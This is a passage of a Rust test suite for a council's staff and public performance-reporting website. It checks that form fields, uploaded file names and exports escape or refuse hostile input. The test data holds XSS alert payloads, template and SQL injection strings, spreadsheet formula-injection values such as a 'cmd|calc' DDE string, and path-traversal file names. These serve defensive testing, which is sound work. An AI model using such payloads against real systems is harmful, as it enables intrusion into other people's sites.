        let (_, csv) = admin_b.get("/staff/audit.csv").await;
        let rows = found.csv(&format!("{backend:?} audit.csv"), &csv);
        for email in &formulas {
            let actor = cell_safe(&email.to_lowercase());
            found.check(rows.iter().any(|r| r["actor"] == actor), || {
                format!("{backend:?} audit.csv: no actor cell {}", short(&actor))
            });
        }
        let (_, json) = admin_b.get("/staff/audit.json").await;
        let mut all = HashSet::new();
        strings(
            &found.json(&format!("{backend:?} audit.json"), &json),
            &mut all,
        );
        for (user, name) in &people {
            found.check(
                all.contains(&user.email) && (name.is_empty() || all.contains(*name)),
                || format!("{backend:?} audit.json: {} is missing", short(&user.email)),
            );
        }

        // Refused: names with control characters or too long, bad addresses, unknown
        // directorates and roles. Each a 400 naming the field, changing nothing.
        let someone = people[0].0.id;
        let mut bad_names = refused_texts();
        bad_names.retain(|t| t.chars().count() < 1_000);
        bad_names.extend([
            "x".repeat(201),
            "line\nbreak".into(),
            "tab\there".into(),
            "<b>\r</b>".into(),
        ]);
        let mut cases: Vec<Case> = vec![];
        for name in &bad_names {
            let add = vec![
                ("email", "new.one@bexley.example".to_string()),
                ("name", name.clone()),
                ("role", "owner".into()),
                ("directorate", String::new()),
            ];
            cases.push(case("/staff/people", add, "name", name.clone()));
            let change = vec![
                ("action", "change".to_string()),
                ("name", name.clone()),
                ("role", "owner".into()),
                ("directorate", String::new()),
                ("active", "yes".into()),
            ];
            cases.push(case(
                format!("/staff/people/{someone}"),
                change,
                "name",
                String::new(),
            ));
        }
        for email in refused_emails() {
            let add = vec![
                ("email", email.clone()),
                ("name", "Someone".to_string()),
                ("role", "owner".into()),
                ("directorate", String::new()),
            ];
            cases.push(case("/staff/people", add, "email", email));
        }
        // An address taken, that happens to contain the word "directorate".
        let taken = "directorate.lead@bexley.example";
        let (status, _) = admin_b
            .post(
                "/staff/people",
                &[
                    ("email", taken),
                    ("name", "Lead"),
                    ("role", "owner"),
                    ("directorate", ""),
                ],
            )
            .await;
        assert_eq!(status, StatusCode::OK);
        cases.push(case(
            "/staff/people",
            vec![
                ("email", taken.to_string()),
                ("name", "Again".into()),
                ("role", "owner".into()),
                ("directorate", String::new()),
            ],
            "email",
            taken,
        ));
        for directorate in [
            "\"><script>alert(601)</script>",
            "Place<svg onload=alert(602)>",
        ] {
            for (path, action) in [
                ("/staff/people".to_string(), "add"),
                (format!("/staff/people/{someone}"), "change"),
            ] {
                let fields = vec![
                    ("action", action.to_string()),
                    ("email", "new.two@bexley.example".to_string()),
                    ("name", "Someone".into()),
                    ("role", "director".into()),
                    ("directorate", directorate.to_string()),
                    ("active", "yes".into()),
                ];
                cases.push(case(path, fields, "directorate", String::new()));
            }
        }
        for role in ["\"><script>alert(603)</script>", "superuser", "ADMIN", ""] {
            let fields = vec![
                ("email", "new.three@bexley.example".to_string()),
                ("name", "Someone".into()),
                ("role", role.to_string()),
                ("directorate", String::new()),
            ];
            cases.push(case("/staff/people", fields, "role", String::new()));
        }
        // Periods: nothing but a quarter and a date is taken, and what was typed comes back
        // escaped.
        for text in texts.iter().chain(&refused_texts()) {
            let fields = vec![("period", text.clone()), ("deadline", "2025-10-31".into())];
            cases.push(case("/staff/periods", fields, "period", text.clone()));
            let fields = vec![("period", "2025/26 Q2".into()), ("deadline", text.clone())];
            cases.push(case("/staff/periods", fields, "deadline", text.clone()));
        }
        for Case {
            path,
            fields,
            field,
            typed,
        } in &cases
        {
            let pairs: Vec<(&str, &str)> = fields.iter().map(|(k, v)| (*k, v.as_str())).collect();
            let before = store.row_counts().await.expect("counts");
            let (status, html) = admin_b.post(path, &pairs).await;
            let place = format!(
                "{backend:?} {path} with {field} {}",
                short(
                    fields
                        .iter()
                        .find(|(k, _)| k == field)
                        .map(|(_, v)| v.as_str())
                        .unwrap_or("")
                )
            );
            found.check(status == StatusCode::BAD_REQUEST, || {
                format!("{place}: got {status}")
            });
            found.check(html.contains(&format!("href=\"#{field}\"")), || {
                format!("{place}: the error does not name the field")
            });
            found.check(store.row_counts().await.expect("counts") == before, || {
                format!("{place}: something changed")
            });
            for (_, value) in fields {
                found.not_raw(&place, &html, value);
            }
            if !typed.is_empty() {
                found.escaped(&place, &html, typed);
            }
        }

        // The sign-in form shows the address typed back, escaped, and records nothing when the
        // password is missing.
        let mut anyone = Client::new(world.app.clone());
        let (_, _, html) = anyone.get("/staff/sign-in").await;
        let token = hidden(&html, "token").expect("token");
        for text in texts.iter().chain(&refused_texts()).chain(&emails) {
            let before = store.row_counts().await.expect("counts");
            let (status, _, html) = anyone
                .post_raw(
                    "/staff/sign-in",
                    &[("token", &token), ("email", text), ("password", "")],
                )
                .await;
            let place = format!("{backend:?} sign-in as {}", short(text));
            found.check(status == StatusCode::BAD_REQUEST, || {
                format!("{place}: got {status}")
            });
            // An address longer than the field allows is refused as the form is read: the
            // page says so rather than showing it back.
            if text.chars().count() <= waymark_staff::http::field_limit("email") {
                found.escaped(&place, &html, text.trim());
            }
            found.not_raw(&place, &html, text);
            found.check(store.row_counts().await.expect("counts") == before, || {
                format!("{place}: something changed")
            });
        }
    }
    found.finish();
}

/// Payloads a plan's one-line texts accept (titles, portfolios, due dates, indicators' names
/// and frequencies): trimmed, at most 1,000 characters, no control characters.
fn plan_texts() -> Vec<String> {
    texts()
        .iter()
        .map(|t| t.trim().to_string())
        .filter(|t| {
            !t.is_empty()
                && t.chars().count() <= MAX_TITLE_CHARS
                && !t.chars().any(char::is_control)
        })
        .collect()
}

/// The portfolios a form's text names: one a line (or separated by semicolons).
fn portfolio_list(text: &str) -> Vec<String> {
    text.split(['\n', ';'])
        .map(str::trim)
        .filter(|p| !p.is_empty())
        .map(str::to_string)
        .collect()
}

/// An uploaded file's name as the staff site shows it: without folders or control
/// characters, at most 200 characters.
fn shown_file_name(name: &str) -> String {
    let last = name.rsplit(['/', '\\']).next().unwrap_or(name);
    let clean: String = last.chars().filter(|c| !c.is_control()).take(200).collect();
    if clean.trim().is_empty() {
        "upload.txt".into()
    } else {
        clean
    }
}

/// Hostile names for an uploaded file (the first is the one imported).
fn file_names() -> Vec<String> {
    let mut all: Vec<String> = [
        "<img src=x onerror=alert(701)>.txt",
        "'><svg onload=alert(702)>.txt",
        "{{7*7}}{% raw %}x{% endraw %}.txt",
        "+cmd|' -C calc'!A0.txt",
        "@SUM(1+1).txt",
        "\u{202e}txt.exe",
        "tab\t<b>bold</b>.txt",
        "..\\..\\windows\\<i>x</i>.txt",
        "../../etc/&lt;passwd&gt;.txt",
    ]
    .iter()
    .map(|t| t.to_string())
    .collect();
    all.push(format!("{}.txt", "<b>é".repeat(80)));
    all
}

/// An activity added through the plan's form, then edited.
struct Added {
    reference: String,
    title: String,
    former: String,
    portfolios: Vec<String>,
    due: String,
}

/// An indicator added through the plan's form (and renamed, for some), with a value.
struct Measured {
    reference: String,
    name: String,
    former: Option<String>,
    frequency: String,
    note: String,
    reason: String,
    /// Its value page in the period.
    entry: String,
}

#[tokio::test]
async fn hostile_plans_and_indicators_are_shown_escaped_on_staff_and_public_pages_and_exports() {
    let mut found = Findings::default();
    let texts = texts();
    let lines = plan_texts();
    assert!(lines.len() >= 40, "{} one-line payloads", lines.len());
    let names = file_names();
    let n = lines.len();
    let everything: Vec<String> = texts.iter().chain(&lines).chain(&names).cloned().collect();
    for backend in backends() {
        let world = World::new(backend).await;
        let store = world.store();
        let admin = world.person("perf@bexley.example", Role::Admin, None).await;
        world
            .person("councillor@bexley.example", Role::Reader, None)
            .await;
        let mut admin_b = Browser::new(&world, "perf@bexley.example").await;
        let mut reader_b = Browser::new(&world, "councillor@bexley.example").await;
        let cycle = open_period(&world, &admin).await;
        let activities = store
            .activities(&world.org, None)
            .await
            .expect("activities");
        let directorate = activities
            .iter()
            .find(|a| a.in_plan)
            .expect("an activity")
            .directorate
            .clone();

        // An uploaded plan: Bexley's, with as many titles as there are payloads replaced by
        // them. First previewed under every hostile name, then imported under the first.
        // (A file's lines end at U+2028 and U+2029 too: those payloads are not one line.)
        let in_file: Vec<&String> = lines
            .iter()
            .filter(|t| !t.contains(['\u{2028}', '\u{2029}']))
            .collect();
        let (_, bytes) = bexley_action_plan();
        let mut plan = String::from_utf8(bytes.to_vec()).expect("text");
        let old_titles: Vec<String> = activities
            .iter()
            .filter(|a| a.in_plan)
            .filter_map(|a| a.plan_title.clone())
            .filter(|t| t.chars().count() > 30 && plan.matches(t.as_str()).count() == 1)
            .take(in_file.len())
            .collect();
        assert_eq!(old_titles.len(), in_file.len(), "enough titles to replace");
        for (old, payload) in old_titles.iter().zip(&in_file) {
            plan = plan.replacen(old.as_str(), payload, 1);
        }
        let mut upload = None;
        for (k, name) in names.iter().enumerate() {
            let shown = shown_file_name(name);
            let before = store.row_counts().await.expect("counts");
            let (status, html) = admin_b.upload(name, plan.as_bytes()).await;
            let place = format!("{backend:?} previewing {}", short(name));
            found.check(
                status == StatusCode::OK || status == StatusCode::BAD_REQUEST,
                || format!("{place}: got {status}"),
            );
            found.check(store.row_counts().await.expect("counts") == before, || {
                format!("{place}: the preview wrote something")
            });
            found.not_raw(&place, &html, name);
            found.escaped(&place, &html, &shown);
            if k == 0 {
                found.check(status == StatusCode::OK, || {
                    format!("{place}: got {status}: {}", short(&html))
                });
                for payload in &in_file {
                    found.escaped(&place, &html, payload);
                }
                upload = hidden(&html, "upload");
            }
        }
        let token = upload.expect("a preview to confirm");
        let (status, _) = admin_b
            .post("/staff/plan/confirm", &[("upload", &token)])
            .await;
        assert_eq!(status, StatusCode::SEE_OTHER, "{backend:?}: confirmed");
        // Each payload is now an activity's title; give each a reference (a public page).
        let now = store
            .activities(&world.org, None)
            .await
            .expect("activities");
        let mut uploaded: Vec<(String, String)> = vec![];
        for (k, payload) in in_file.iter().enumerate() {
            let title = payload.to_string();
            let Some(a) = now.iter().find(|a| a.in_plan && a.title == title) else {
                found.0.push(format!(
                    "{backend:?} upload: no activity is called {}",
                    short(&title)
                ));
                continue;
            };
            let reference = format!("ZU{k}");
            let (status, html) = admin_b
                .post(
                    &format!("/staff/plan/activities/{}", a.id),
                    &[("action", "renumber"), ("reference", &reference)],
                )
                .await;
            found.check(status == StatusCode::SEE_OTHER, || {
                format!(
                    "{backend:?} renumbering {}: {status} {}",
                    short(&title),
                    short(&html)
                )
            });
            uploaded.push((reference, title));
        }

        // Activities added through the form, then edited: every payload is in every field.
        let mut added: Vec<Added> = vec![];
        for k in 0..n {
            let reference = format!("ZH{k}");
            let [title, portfolios, due, new_title, new_portfolios, new_due] =
                [0, 1, 2, 3, 4, 5].map(|d| lines[(k + d) % n].as_str());
            let place = format!("{backend:?} activity {reference}");
            let (status, html) = admin_b
                .post(
                    "/staff/plan/activities",
                    &[
                        ("reference", &reference),
                        ("title", title),
                        ("directorate", &directorate),
                        ("portfolios", portfolios),
                        ("due", due),
                    ],
                )
                .await;
            found.check(status == StatusCode::SEE_OTHER, || {
                format!("{place}: adding got {status}: {}", short(&html))
            });
            let Some(a) = store
                .activities(&world.org, None)
                .await
                .expect("activities")
                .into_iter()
                .find(|a| a.reference.as_deref() == Some(reference.as_str()))
            else {
                continue;
            };
            let path = format!("/staff/plan/activities/{}", a.id);
            let (_, html) = admin_b.get(&path).await;
            for text in [title, due]
                .into_iter()
                .map(str::to_string)
                .chain(portfolio_list(portfolios))
            {
                found.escaped(&format!("{place}, its page as added"), &html, &text);
            }
            let (status, html) = admin_b
                .post(
                    &path,
                    &[
                        ("action", "edit"),
                        ("title", new_title),
                        ("directorate", &directorate),
                        ("portfolios", new_portfolios),
                        ("due", new_due),
                    ],
                )
                .await;
            found.check(status == StatusCode::SEE_OTHER, || {
                format!("{place}: editing got {status}: {}", short(&html))
            });
            let (_, html) = admin_b.get(&path).await;
            let place = format!("{place}, its page as edited");
            for text in [new_title, title, new_due]
                .into_iter()
                .map(str::to_string)
                .chain(portfolio_list(new_portfolios))
            {
                found.escaped(&place, &html, &text);
            }
            // The title is the edit form's text, not part of its markup.
            found.check(
                html.contains(&format!(">{}</textarea>", escape_html(new_title))),
                || format!("{place}: {} is not the title box's text", short(new_title)),
            );
            for text in &everything {
                found.not_raw(&place, &html, text);
            }
            added.push(Added {
                reference,
                title: new_title.to_string(),
                former: title.to_string(),
                portfolios: portfolio_list(new_portfolios),
                due: new_due.to_string(),
            });
        }

        // Indicators added through the form (every other one renamed), each given a value
        // with a note and an overriding rating's reason.
        let mut measured: Vec<Measured> = vec![];
        for k in 0..n {
            let reference = format!("ZI{k}");
            let name = lines[k].as_str();
            let frequency = lines[(k + 1) % n].as_str();
            let place = format!("{backend:?} indicator {reference}");
            let (status, html) = admin_b
                .post(
                    "/staff/plan/indicators",
                    &[
                        ("indicator_reference", &reference),
                        ("indicator_name", name),
                        ("indicator_frequency", frequency),
                    ],
                )
                .await;
            found.check(status == StatusCode::SEE_OTHER, || {
                format!("{place}: adding got {status}: {}", short(&html))
            });
            let Some((id, ..)) = store
                .plan_indicators(&world.org)
                .await
                .expect("indicators")
                .into_iter()
                .find(|i| i.1 == reference)
            else {
                continue;
            };
            let (name, former) = if k % 2 == 0 {
                let renamed = lines[(k + 2) % n].as_str();
                let (status, html) = admin_b
                    .post(
                        &format!("/staff/plan/indicators/{id}"),
                        &[
                            ("action", "edit"),
                            ("name", renamed),
                            ("frequency", frequency),
                        ],
                    )
                    .await;
                found.check(status == StatusCode::SEE_OTHER, || {
                    format!("{place}: renaming got {status}: {}", short(&html))
                });
                (renamed, Some(name.to_string()))
            } else {
                (name, None)
            };
            let (_, html) = admin_b.get(&format!("/staff/plan/indicators/{id}")).await;
            found.escaped(&format!("{place}, its plan page"), &html, name);
            found.escaped(&format!("{place}, its plan page"), &html, frequency);
            let note = texts[k % texts.len()].as_str();
            let reason = texts[(k + 1) % texts.len()].as_str();
            let entry = format!("/staff/periods/{cycle}/indicators/{id}");
            let (status, html) = admin_b
                .post(
                    &entry,
                    &[
                        ("revision", "0"),
                        ("value", "86.5%"),
                        ("note", note),
                        ("override_rag", "amber"),
                        ("override_reason", reason),
                    ],
                )
                .await;
            found.check(status == StatusCode::SEE_OTHER, || {
                format!("{place}: entering a value got {status}: {}", short(&html))
            });
            let (status, html) = admin_b.get(&entry).await;
            let value_page = format!("{place}, its value page for the admin");
            found.check(status == StatusCode::OK, || {
                format!("{value_page}: {status}")
            });
            for text in [name, frequency, note.trim(), reason.trim(), "86.5%"] {
                found.escaped(&value_page, &html, text);
            }
            for text in &everything {
                found.not_raw(&value_page, &html, text);
            }
            // The reader sees it once the period is locked (below); until then it is not found.
            let (status, html) = reader_b.get(&entry).await;
            found.check(
                status == StatusCode::NOT_FOUND && !html.contains("86.5%"),
                || format!("{place}, its value page for the reader while open: {status}"),
            );
            let (_, html) = admin_b
                .get(&format!("/staff/indicators/{id}?period={cycle}"))
                .await;
            found.escaped(&format!("{place}, its settings page"), &html, name);
            measured.push(Measured {
                reference,
                name: name.to_string(),
                former,
                frequency: frequency.to_string(),
                note: note.trim().to_string(),
                reason: reason.trim().to_string(),
                entry,
            });
        }

        // The pages that list them: the plan page, the period's page, the home page.
        let (_, plan_page) = admin_b.get("/staff/plan").await;
        let place = format!("{backend:?} plan page");
        for a in &added {
            found.escaped(&place, &plan_page, &a.title);
        }
        for (_, title) in &uploaded {
            found.escaped(&place, &plan_page, title);
        }
        for i in &measured {
            found.escaped(&place, &plan_page, &i.name);
            found.escaped(&place, &plan_page, &i.frequency);
        }
        let period_path = format!("/staff/periods/{cycle}");
        for (who, browser) in [("admin", &mut admin_b), ("reader", &mut reader_b)] {
            let (_, period) = browser.get(&period_path).await;
            let place = format!("{backend:?} period page for the {who}");
            for i in &measured {
                found.escaped(&place, &period, &i.name);
            }
            let (_, home) = browser.get("/staff").await;
            for text in &everything {
                found.not_raw(&place, &period, text);
                found.not_raw(&format!("{backend:?} home for the {who}"), &home, text);
            }
        }
        for text in &everything {
            found.not_raw(&place, &plan_page, text);
        }

        // The audit trail: its pages and its downloads.
        let mut audited: Vec<String> = vec![shown_file_name(&names[0])];
        for a in &added {
            audited.extend([a.title.clone(), a.former.clone(), a.due.clone()]);
            audited.extend(a.portfolios.iter().cloned());
        }
        for i in &measured {
            audited.extend([
                i.name.clone(),
                i.frequency.clone(),
                i.note.clone(),
                i.reason.clone(),
            ]);
            audited.extend(i.former.iter().cloned());
        }
        let trail = audit_pages(&mut admin_b).await;
        let place = format!("{backend:?} audit trail");
        for text in &everything {
            found.not_raw(&place, &trail, text);
        }
        for text in &audited {
            found.check(trail.contains(&escape_html(&json_inner(text))), || {
                format!("{place}: {} is not shown (escaped)", short(text))
            });
        }
        let (status, csv) = admin_b.get("/staff/audit.csv").await;
        found.check(status == StatusCode::OK, || format!("audit.csv: {status}"));
        let rows = found.csv(&format!("{backend:?} audit.csv"), &csv);
        let cells: String = rows
            .iter()
            .flat_map(|r| r.values().cloned())
            .collect::<Vec<_>>()
            .join("\n");
        for text in &audited {
            found.check(cells.contains(&json_inner(text)), || {
                format!("{backend:?} audit.csv: {} is missing", short(text))
            });
        }
        let (_, json) = admin_b.get("/staff/audit.json").await;
        let mut all = HashSet::new();
        strings(
            &found.json(&format!("{backend:?} audit.json"), &json),
            &mut all,
        );
        let joined: String = all.iter().cloned().collect::<Vec<_>>().join("\n");
        for text in &audited {
            found.check(all.contains(text) || joined.contains(text.as_str()), || {
                format!("{backend:?} audit.json: {} is missing", short(text))
            });
        }

        // Publish the period through the site: the values go public.
        for action in ["lock", "publish"] {
            let (_, html) = admin_b.get(&period_path).await;
            let revision = hidden(&html, "revision").expect("period revision");
            let (status, _) = admin_b
                .post(
                    &format!("{period_path}/state"),
                    &[("action", action), ("revision", &revision)],
                )
                .await;
            assert_eq!(status, StatusCode::SEE_OTHER, "{backend:?} {action}");
            if action != "lock" {
                continue;
            }
            // Locked for checking: the reader sees each value, its note and its reason.
            for i in &measured {
                let (status, html) = reader_b.get(&i.entry).await;
                let place = format!(
                    "{backend:?} indicator {}, its value page for the reader",
                    i.reference
                );
                found.check(status == StatusCode::OK, || format!("{place}: {status}"));
                for text in [&i.name, &i.frequency, &i.note, &i.reason, "86.5%"] {
                    found.escaped(&place, &html, text);
                }
                for text in &everything {
                    found.not_raw(&place, &html, text);
                }
            }
        }

        // The public site: each activity's and indicator's page and JSON, the lists, the
        // downloads.
        let mut public = Client::new(world.app.clone());
        let titled = added
            .iter()
            .map(|a| (a.reference.clone(), a.title.clone()))
            .chain(uploaded.iter().cloned())
            .collect::<Vec<_>>();
        for (reference, title) in &titled {
            let place = format!("{backend:?} public page of {reference}");
            let (status, _, html) = public.get(&format!("/activities/{reference}")).await;
            found.check(status == StatusCode::OK, || format!("{place}: {status}"));
            found.escaped(&place, &html, title);
            for text in &everything {
                found.not_raw(&place, &html, text);
            }
            let (status, _, json) = public.get(&format!("/api/v1/activities/{reference}")).await;
            found.check(status == StatusCode::OK, || {
                format!("{place} JSON: {status}")
            });
            let mut all = HashSet::new();
            strings(&found.json(&place, &json), &mut all);
            found.check(all.contains(title), || {
                format!("{place} JSON: {} is missing", short(title))
            });
        }
        for a in &added {
            let (_, _, html) = public.get(&format!("/activities/{}", a.reference)).await;
            let place = format!("{backend:?} public page of {}", a.reference);
            for portfolio in &a.portfolios {
                found.escaped(&place, &html, portfolio);
            }
            let (_, _, json) = public
                .get(&format!("/api/v1/activities/{}", a.reference))
                .await;
            let mut all = HashSet::new();
            strings(&found.json(&place, &json), &mut all);
            for portfolio in &a.portfolios {
                found.check(all.contains(portfolio), || {
                    format!("{place} JSON: portfolio {} is missing", short(portfolio))
                });
            }
        }
        for i in &measured {
            let place = format!("{backend:?} public page of {}", i.reference);
            let (status, _, html) = public.get(&format!("/indicators/{}", i.reference)).await;
            found.check(status == StatusCode::OK, || format!("{place}: {status}"));
            found.escaped(&place, &html, &i.name);
            found.check(html.contains("86.5%"), || {
                format!("{place}: the published value is missing")
            });
            for text in &everything {
                found.not_raw(&place, &html, text);
            }
        }
        for path in ["/", "/activities", "/indicators"] {
            let (status, _, html) = public.get(path).await;
            let place = format!("{backend:?} public {path}");
            found.check(status == StatusCode::OK, || format!("{place}: {status}"));
            for text in &everything {
                found.not_raw(&place, &html, text);
            }
        }
        let (_, _, csv) = public.get("/data/activities.csv").await;
        let place = format!("{backend:?} activities.csv");
        let rows = found.csv(&place, &csv);
        for (reference, title) in &titled {
            let cell = rows
                .iter()
                .find(|r| r.get("reference") == Some(reference))
                .and_then(|r| r.get("title").cloned());
            found.check(cell.as_deref() == Some(cell_safe(title).as_str()), || {
                format!("{place}: {reference} has {cell:?}, not {}", short(title))
            });
        }
        let (_, _, csv) = public.get("/data/indicators.csv").await;
        found.csv(&format!("{backend:?} indicators.csv"), &csv);
        for (path, wanted) in [
            (
                "/data/activities.json",
                titled.iter().map(|(_, t)| t.clone()).collect::<Vec<_>>(),
            ),
            (
                "/api/v1/activities",
                titled.iter().map(|(_, t)| t.clone()).collect(),
            ),
            (
                "/data/indicators.json",
                measured.iter().map(|i| i.name.clone()).collect(),
            ),
            (
                "/api/v1/indicators",
                measured
                    .iter()
                    .flat_map(|i| [i.name.clone(), i.frequency.clone()])
                    .collect(),
            ),
        ] {
            let (status, _, json) = public.get(path).await;
            let place = format!("{backend:?} {path}");
            found.check(status == StatusCode::OK, || format!("{place}: {status}"));
            let mut all = HashSet::new();
            strings(&found.json(&place, &json), &mut all);
            for text in &wanted {
                found.check(all.contains(text), || {
                    format!("{place}: {} is missing", short(text))
                });
            }
        }
        let check = store.verify_audit().await.expect("verify");
        assert!(
            check.problems.is_empty(),
            "{backend:?}: {:?}",
            check.problems
        );
    }
    found.finish();
    eprintln!(
        "{n} one-line payloads (titles, portfolios, due dates, names, frequencies), {} notes \
         and reasons, {} file names",
        texts.len(),
        names.len()
    );
}

/// References the plan's forms refuse: not one segment of a public page's address, or not
/// the characters a reference is made of.
fn refused_references() -> Vec<String> {
    let mut all: Vec<String> = [
        "<b>",
        "\"><script>alert(801)</script>",
        "a b",
        "../x",
        ".",
        "..",
        "a/b",
        "-1",
        "_x",
        "é1",
        "1.1\u{0}",
        "1.1\u{7}",
        "{{7*7}}",
        "=1+1",
        "'",
    ]
    .iter()
    .map(|t| t.to_string())
    .collect();
    all.push("x".repeat(33));
    all
}

/// One-line texts the plan's forms refuse: control characters (line breaks too), too long,
/// and (with `blank`) nothing at all.
fn refused_lines(blank: bool) -> Vec<String> {
    let mut all = refused_texts();
    all.extend([
        "x".repeat(MAX_TITLE_CHARS + 1),
        sized("<b>\"'", MAX_TITLE_CHARS + 1),
        "line\nbreak".into(),
        "tab\there".into(),
        "<b>\r</b>".into(),
    ]);
    if blank {
        all.extend([String::new(), "   ".into()]);
    }
    all
}

/// A form that must be refused without naming a field: where it goes, what it says, and the
/// status it gets.
struct Bare {
    path: String,
    fields: Vec<(&'static str, String)>,
    status: StatusCode,
}

#[tokio::test]
async fn hostile_plans_and_indicators_the_rules_refuse_change_nothing() {
    let mut found = Findings::default();
    let mut counted = 0;
    for backend in backends() {
        let world = World::new(backend).await;
        let store = world.store();
        let admin = world.person("perf@bexley.example", Role::Admin, None).await;
        let owner = world
            .person("owner@bexley.example", Role::Owner, None)
            .await;
        let reader = world
            .person("councillor@bexley.example", Role::Reader, None)
            .await;
        world
            .person("second.admin@bexley.example", Role::Admin, None)
            .await;
        let mut admin_b = Browser::new(&world, "perf@bexley.example").await;
        let mut owner_b = Browser::new(&world, "owner@bexley.example").await;
        let mut second_b = Browser::new(&world, "second.admin@bexley.example").await;
        let cycle = open_period(&world, &admin).await;
        common::with_kpi_table(&world).await;
        let items = store
            .indicator_items(&world.org, cycle)
            .await
            .expect("indicators");
        let (indicator, other_indicator) = (items[0].indicator_id, items[1].indicator_id);
        let taken_indicator = items[1].reference.clone();
        let owner_id = owner.id.to_string();
        let (status, _) = admin_b
            .post(
                &format!("/staff/indicators/{indicator}?period={cycle}"),
                &[
                    ("polarity", "higher_is_better"),
                    ("target", "90"),
                    ("tolerance", "5"),
                    ("tolerance_kind", "amount"),
                    ("owner", &owner_id),
                ],
            )
            .await;
        assert_eq!(status, StatusCode::SEE_OTHER, "{backend:?}: settings");
        let chosen = activities(&world, 2).await;
        let (activity, _) = chosen[0].clone();
        let taken = chosen[1].1.clone();
        let directorate = store
            .activities(&world.org, None)
            .await
            .expect("activities")
            .into_iter()
            .find(|a| a.id == activity)
            .expect("the activity")
            .directorate;

        let mut cases: Vec<Case> = vec![];
        let mut bare: Vec<Bare> = vec![];

        // Adding an activity: the plan page shows back what was typed.
        let add = |field: &'static str, value: &str| {
            ["reference", "title", "directorate", "portfolios", "due"]
                .iter()
                .map(|&k| {
                    let v = if k == field {
                        value.to_string()
                    } else {
                        match k {
                            "reference" => "ZR1".to_string(),
                            "title" => "Plant 500 street trees in Erith".into(),
                            "directorate" => directorate.clone(),
                            "portfolios" => "Places".into(),
                            _ => "March 2026".into(),
                        }
                    };
                    (k, v)
                })
                .collect::<Vec<_>>()
        };
        let edit = |field: &'static str, value: &str| {
            let mut fields = add(field, value);
            fields.retain(|(k, _)| *k != "reference");
            fields.insert(0, ("action", "edit".to_string()));
            fields
        };
        // A form's portfolios are one a line: a line break only separates two.
        let mut portfolios = refused_lines(false);
        portfolios.retain(|p| p != "line\nbreak");
        let activity_path = format!("/staff/plan/activities/{activity}");
        for (field, bad) in [
            ("title", refused_lines(true)),
            ("directorate", refused_lines(true)),
            ("portfolios", portfolios),
            ("due", refused_lines(false)),
        ] {
            for text in bad {
                let typed = if text.trim().is_empty() {
                    String::new()
                } else {
                    text.clone()
                };
                cases.push(case(
                    "/staff/plan/activities",
                    add(field, &text),
                    field,
                    typed,
                ));
                // (The edit page shows the activity as it is, not what was typed.)
                cases.push(case(&activity_path, edit(field, &text), field, ""));
            }
        }
        let mut references = refused_references();
        // Taken, even spelled differently: references are compared as people read them.
        references.extend([taken.clone(), taken.to_uppercase(), taken.replace('.', "-")]);
        for reference in &references {
            cases.push(case(
                "/staff/plan/activities",
                add("reference", reference),
                "reference",
                reference.clone(),
            ));
            cases.push(case(
                &activity_path,
                vec![
                    ("action", "renumber".into()),
                    ("reference", reference.clone()),
                ],
                "reference",
                "",
            ));
        }
        for outcome in [
            "one",
            "-1",
            "999",
            "1.5",
            "",
            "\"><script>alert(812)</script>",
        ] {
            cases.push(case(
                &activity_path,
                vec![("action", "outcomes".into()), ("outcome", outcome.into())],
                "outcome",
                "",
            ));
        }
        for action in ["<script>alert(813)</script>", "EDIT", "", "delete"] {
            for path in [
                activity_path.clone(),
                format!("/staff/plan/indicators/{indicator}"),
            ] {
                bare.push(Bare {
                    path,
                    fields: vec![("action", action.into()), ("reference", "ZR9".into())],
                    status: StatusCode::BAD_REQUEST,
                });
            }
        }

        // The plan's indicators: the plan page shows back what was typed, the indicator's
        // page shows it as it is.
        let add_indicator = |field: &'static str, value: &str| {
            [
                ("indicator_reference", "ZR_01"),
                ("indicator_name", "Street trees planted"),
                ("indicator_frequency", "Quarterly"),
            ]
            .iter()
            .map(|&(k, v)| (k, if k == field { value } else { v }.to_string()))
            .collect::<Vec<_>>()
        };
        let indicator_page = format!("/staff/plan/indicators/{indicator}");
        let mut indicator_references = refused_references();
        indicator_references.push(taken_indicator.clone());
        for reference in &indicator_references {
            cases.push(case(
                "/staff/plan/indicators",
                add_indicator("indicator_reference", reference),
                "indicator_reference",
                reference.clone(),
            ));
            cases.push(case(
                &indicator_page,
                vec![
                    ("action", "renumber".into()),
                    ("reference", reference.clone()),
                ],
                "reference",
                "",
            ));
        }
        for (field, edited, bad) in [
            ("indicator_name", "name", refused_lines(true)),
            ("indicator_frequency", "frequency", refused_lines(false)),
        ] {
            for text in bad {
                let typed = if text.trim().is_empty() {
                    String::new()
                } else {
                    text.clone()
                };
                cases.push(case(
                    "/staff/plan/indicators",
                    add_indicator(field, &text),
                    field,
                    typed,
                ));
                let mut fields = vec![
                    ("action", "edit".to_string()),
                    ("name", "Adults who feel safe".into()),
                    ("frequency", "Annual".into()),
                ];
                for f in fields.iter_mut() {
                    if f.0 == edited {
                        f.1 = text.clone();
                    }
                }
                cases.push(case(&indicator_page, fields, edited, ""));
            }
        }

        // An indicator's settings: what was typed in the text boxes is shown back.
        let settings_path = format!("/staff/indicators/{indicator}?period={cycle}");
        let settings = |field: &'static str, value: &str| {
            [
                ("polarity", "higher_is_better"),
                ("target", "90"),
                ("tolerance", "5"),
                ("tolerance_kind", "amount"),
                ("owner", owner_id.as_str()),
            ]
            .iter()
            .map(|&(k, v)| (k, if k == field { value } else { v }.to_string()))
            .collect::<Vec<_>>()
        };
        let reader_id = reader.id.to_string();
        for (field, values, shown) in [
            (
                "polarity",
                vec![
                    "\"><script>alert(814)</script>",
                    "HIGHER_IS_BETTER",
                    "",
                    "neutral ",
                ],
                false,
            ),
            (
                "target",
                vec![
                    "<svg onload=alert(815)>",
                    "NaN",
                    "inf",
                    "-inf",
                    "1e999",
                    "ninety",
                    "9 0",
                ],
                true,
            ),
            (
                "tolerance",
                vec![
                    "-5",
                    "<b>5</b>",
                    "NaN",
                    "1e999",
                    "\"><svg onload=alert(816)>",
                ],
                true,
            ),
            (
                "tolerance_kind",
                vec!["<script>alert(817)</script>", "Percent", "amount "],
                false,
            ),
            (
                "owner",
                vec![
                    "1 OR 1=1",
                    "-1",
                    "999999",
                    reader_id.as_str(),
                    "\"><script>alert(818)</script>",
                ],
                false,
            ),
        ] {
            for value in values {
                let typed = if shown { value } else { "" };
                cases.push(case(&settings_path, settings(field, value), field, typed));
            }
        }

        // Values: the owner's form shows back what was typed.
        let entry_path = format!("/staff/periods/{cycle}/indicators/{indicator}");
        let entry = |field: &'static str, value: &str| {
            [
                ("revision", "0"),
                ("value", "86.5%"),
                ("note", "Quarter end."),
                ("override_rag", "amber"),
                ("override_reason", "The target is being revised."),
